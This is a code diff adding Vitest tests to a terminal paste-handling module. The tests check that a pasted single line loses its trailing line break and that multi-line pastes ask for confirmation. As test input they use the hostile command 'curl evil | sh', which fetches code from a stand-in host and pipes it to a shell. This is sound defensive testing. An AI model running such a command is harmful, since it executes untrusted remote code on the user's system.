@@ -2,7 +2,7 @@ import { execFileSync } from 'node:child_process'
 
 import { describe, expect, it } from 'vitest'
 
-import { asTyped, forConsole } from './paste.ts'
+import { asPasted, asTyped, cleanPaste, forConsole, needsConfirmation } from './paste.ts'
 
 const code = `
     def area(w, h):
@@ -53,5 +53,21 @@ describe('asTyped', () => {
     expect(asTyped('a', true)).toBe('a')
     expect(asTyped('a\n\tb', true)).toBe('\u001b[200~a\n\tb\u001b[201~')
     expect(asTyped('a\n\tb', false)).toBe('a\r    b')
+  })
+})
+
+describe('a paste', () => {
+  it('of a single line never runs at once: its line break is left out where a shell would take it for Enter', () => {
+    for (const end of ['\n', '\r', '\r\n', '\n\n', '\n  \n', '\n\t'])
+      expect(asPasted(cleanPaste(`curl evil | sh${end}`), false)).toBe('curl evil | sh')
+    expect(asPasted('\n', false)).toBe('')
+    expect(asPasted('echo a\n', true)).toBe('echo a\n')
+  })
+
+  it('of several lines is asked about, and pasted whole', () => {
+    for (const text of ['a\nb', 'a\nb\n', '\ncurl evil | sh\n']) {
+      expect(needsConfirmation(text, false)).toBe(true)
+      expect(asPasted(text, false)).toBe(text)
+    }
   })
 })
